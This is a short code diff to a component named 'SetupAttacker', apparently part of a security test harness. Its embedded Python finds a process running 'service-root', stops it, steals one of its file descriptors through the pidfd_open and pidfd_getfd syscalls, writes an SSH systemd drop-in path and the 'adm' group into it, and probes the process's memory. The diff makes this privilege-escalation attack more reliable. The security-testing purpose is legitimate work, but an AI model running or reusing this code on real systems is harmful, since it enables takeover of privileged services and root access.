@@ -19,7 +19,7 @@ enum SetupAttacker {
         def caught(process):
             try:
                 with open(f"/proc/{process}/cmdline", "rb") as file:
-                    if b"service-root" not in file.read(): return False
+                    if b"service-root" not in file.read().split(b"\0")[:2]: return False
                 while True:
                     try:
                         os.kill(process, signal.SIGSTOP)
@@ -43,7 +43,9 @@ enum SetupAttacker {
                 handle = libc.syscall(434, process, 0)
                 stream = libc.syscall(438, handle, 1, 0)
                 taken = ctypes.get_errno() if stream < 0 else 0
-                if stream >= 0: os.write(stream, b"/etc/systemd/system/ssh.service.d\nadm\n")
+                if stream >= 0:
+                    os.write(stream, b"/etc/systemd/system/ssh.service.d\nadm\n")
+                    os.close(stream)
                 try:
                     open(f"/proc/{process}/mem", "rb").close()
                     seen = "seen"
